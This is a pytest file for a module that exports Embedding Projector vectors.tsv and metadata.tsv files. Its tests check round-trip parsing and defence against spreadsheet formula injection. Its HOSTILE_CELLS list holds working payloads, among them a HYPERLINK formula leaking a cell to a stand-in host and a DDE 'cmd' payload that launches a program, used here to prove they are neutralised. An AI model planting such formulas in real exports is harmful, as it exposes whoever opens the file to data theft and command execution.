"""core.analysis.projector: the Embedding Projector's vectors.tsv + metadata.tsv, parsed back as the projector does.

The projector's own reader (tensorboard's projector plugin, data-provider.ts) splits each file on "\n",
drops a trailing empty line, splits rows on "\t", and, for a metadata file with more than one column,
takes the first line as the header. ``_projector_parse`` below does exactly that, independently of the writer.
"""

from __future__ import annotations

import io
import zipfile

import numpy as np
import pytest

from core.analysis.projector import metadata_tsv, projector_files, projector_zip, vectors_tsv


def _lines(data: bytes) -> list[str]:
    lines = data.decode("utf-8").split("\n")
    return lines[:-1] if lines and lines[-1] == "" else lines


def _projector_parse(vectors: bytes, metadata: bytes) -> tuple[np.ndarray, list[str], list[list[str]]]:
    rows = [[float(v) for v in line.split("\t")] for line in _lines(vectors)]
    dims = {len(r) for r in rows}
    assert len(dims) == 1, f"ragged vectors.tsv: {sorted(dims)} values per row"
    meta = [line.split("\t") for line in _lines(metadata)]
    header, body = meta[0], meta[1:]
    assert all(len(r) == len(header) for r in body), "every metadata row has as many cells as the header"
    return np.asarray(rows, dtype=np.float32), header, body


TEXTS = [
    "The film was a joy.",
    "tab\tinside and a\nline break",
    "  spaces around  ",
    "ünïcødé ✓ and emoji 🎬",
    "\r\n",
    "=1+2 a formula-looking text",
]
LABELS = ["pos", "neg", "pos", "neg\twith tab", "pos", "neg"]


@pytest.fixture
def embeddings():
    rng = np.random.default_rng(0)
    return {
        "cls": rng.normal(size=(len(TEXTS), 8)).astype(np.float32),
        "mean": (rng.normal(size=(len(TEXTS), 8)) * 1e-8).astype(np.float32),  # tiny values survive
        "last4_concat": rng.normal(size=(len(TEXTS), 32)).astype(np.float32),
    }


def test_every_strategy_parses_back_same_rows_same_order(embeddings):
    files = projector_files(embeddings, TEXTS, LABELS)
    assert sorted(files) == sorted(f"{s}/{f}" for s in embeddings for f in ("vectors.tsv", "metadata.tsv"))
    for s, X in embeddings.items():
        V, header, body = _projector_parse(files[f"{s}/vectors.tsv"], files[f"{s}/metadata.tsv"])
        assert V.shape == X.shape
        np.testing.assert_array_equal(V, X)  # float32 exactly, row i = text i
        assert header == ["text", "label"]
        assert len(body) == len(TEXTS)
        assert body[0] == ["The film was a joy.", "pos"]
        assert body[1] == ["tab inside and a line break", "neg"]  # a tab or line break would shift rows
        assert body[3] == ["ünïcødé ✓ and emoji 🎬", "neg with tab"]
        assert body[4][0].strip() == ""  # an empty-looking text keeps its row


def test_unlabelled_texts_get_a_placeholder_label():
    meta = metadata_tsv(["a", "b"], None)
    assert _lines(meta) == ["text\tlabel", "a\t(none)", "b\t(none)"]


def test_zip_holds_the_pairs_and_a_readme(embeddings):
    with zipfile.ZipFile(io.BytesIO(projector_zip(embeddings, TEXTS, LABELS))) as zf:
        names = set(zf.namelist())
        assert "README.txt" in names and "mean/vectors.tsv" in names and "mean/metadata.tsv" in names
        assert "projector.tensorflow.org" in zf.read("README.txt").decode()
        V, _, body = _projector_parse(zf.read("cls/vectors.tsv"), zf.read("cls/metadata.tsv"))
    assert V.shape == (len(TEXTS), 8) and len(body) == len(TEXTS)


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda: vectors_tsv(np.zeros(3)), "expected an (N, D) array, got shape (3,)"),
        (lambda: vectors_tsv(np.array([[np.nan, 1.0]])), "nan or inf"),
        (lambda: metadata_tsv(["a", "b"], ["x"]), "2 texts but 1 labels"),
        (lambda: projector_files({"cls": np.zeros((3, 2))}, ["a", "b"], None), "cls has 3 rows for 2 texts"),
    ],
)
def test_bad_input_is_refused_with_a_clear_message(call, message):
    with pytest.raises(ValueError) as info:
        call()
    assert message in str(info.value)


# --- spreadsheet formulas: metadata.tsv opens in Excel / LibreOffice as readily as in the projector ----------
HOSTILE_CELLS = [
    (
        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        '\'=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'=1+1"),  # the tab becomes nothing (stripped), and the formula under it is neutralised
    ("\r@x", "'@x"),
    ("  +1 behind spaces", "'+1 behind spaces"),  # spaces are stripped, so the cell would start with +
    ("a = b is fine", "a = b is fine"),
    ("x-1 and y+2 inside", "x-1 and y+2 inside"),
    ("'=already quoted", "'=already quoted"),
]


@pytest.mark.parametrize(("text", "cell"), HOSTILE_CELLS)
def test_metadata_neutralises_formula_cells_and_still_parses(text, cell):
    texts = [text, "plain"]
    labels = [text, "=1+1"]  # labels are user text too
    vectors = np.eye(2, 3, dtype=np.float32)
    files = projector_files({"mean": vectors}, texts, labels)
    V, header, body = _projector_parse(files["mean/vectors.tsv"], files["mean/metadata.tsv"])
    np.testing.assert_array_equal(V, vectors)
    assert header == ["text", "label"]  # our own header is not a user cell
    assert body == [[cell, cell], ["plain", "'=1+1"]]


def test_metadata_uses_the_csv_exports_rule():
    """One rule for every export: the metadata cell is exactly what the .csv export writes for a stripped cell."""
    from core.analysis.comparison import safe_cell

    for text, _ in HOSTILE_CELLS:
        flat = " ".join(text.split())
        meta = _lines(metadata_tsv([text], None))[1].split("\t")[0]
        assert meta == safe_cell(flat)
        assert meta[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_zip_metadata_has_no_formula_cells():
    texts = [t for t, _ in HOSTILE_CELLS]
    with zipfile.ZipFile(io.BytesIO(projector_zip({"cls": np.ones((len(texts), 2))}, texts, texts))) as zf:
        _, _, body = _projector_parse(zf.read("cls/vectors.tsv"), zf.read("cls/metadata.tsv"))
    assert len(body) == len(texts)
    assert not {c[:1] for row in body for c in row} & {"=", "+", "-", "@", "\t", "\r"}
